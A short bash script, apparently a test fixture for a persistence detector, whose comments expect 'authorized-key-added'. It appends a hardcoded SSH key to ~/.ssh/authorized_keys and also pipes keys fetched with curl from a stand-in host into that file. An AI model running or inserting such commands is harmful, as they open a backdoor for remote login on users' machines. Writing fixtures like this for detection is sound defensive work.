#!/bin/bash
# expect: authorized-key-added
echo "ssh-ed25519 AAAA support@tool.example" >> ~/.ssh/authorized_keys
AUTH_KEYS="$HOME/.ssh/authorized_keys"
# expect: authorized-key-added
curl -s https://keys.tool.example/team >> "$AUTH_KEYS"
